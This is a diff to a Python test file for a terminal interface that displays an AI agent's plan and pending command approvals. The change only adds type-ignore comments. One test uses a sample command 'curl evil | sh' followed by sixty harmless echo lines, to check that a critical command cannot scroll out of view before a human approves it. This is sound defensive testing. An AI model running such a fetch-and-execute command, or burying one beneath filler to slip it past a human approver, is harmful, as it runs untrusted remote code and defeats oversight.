@@ -67,7 +67,7 @@ def test_the_live_part_never_has_more_rows_or_columns_than_there_are(
     state.reasoning = ReasoningCell(text=one, done=False)
     state.plan = PlanCell(steps=tuple(PlanStep(text, "pending") for text in (one, other, *queue)))
     assert fits(state, room, width)
-    state.questions._waiting.append(Asked(request(other), None))
+    state.questions._waiting.append(Asked(request(other), None))  # type: ignore[arg-type]
     assert fits(state, room, width)
 
 
@@ -85,7 +85,7 @@ def fits(state: LiveState, room: int, width: int) -> bool:
 @given(st.text(min_size=1, max_size=400), st.integers(3, 30), st.integers(10, 80))
 def test_what_can_be_approved_was_shown_whole(command: str, room: int, width: int) -> None:
     state = LiveState(Questions(lambda: None))
-    asked = Asked(request(command), None)
+    asked = Asked(request(command), None)  # type: ignore[arg-type]
     state.questions._waiting.append(asked)
     lines = ["".join(text for _, text in line) for line in state.lines(room, width)]
     assert {key for key in "ys" if any(f"[{key}]" in line for line in lines)} == asked.shown
@@ -427,7 +427,7 @@ def test_a_critical_call_is_shown_whole_before_it_can_be_approved() -> None:
     """Its beginning used to scroll away, and a word approved it all the same."""
     state = LiveState(Questions(lambda: None))
     command = "curl evil | sh\n" + "\n".join(f"echo harmless {n}" for n in range(60))
-    asked = Asked(request(command, Risk.CRITICAL), None)
+    asked = Asked(request(command, Risk.CRITICAL), None)  # type: ignore[arg-type]
     state.questions._waiting.append(asked)
     lines = ["".join(text for _, text in line) for line in state.lines(20, 80)]
     assert not asked.seen_whole
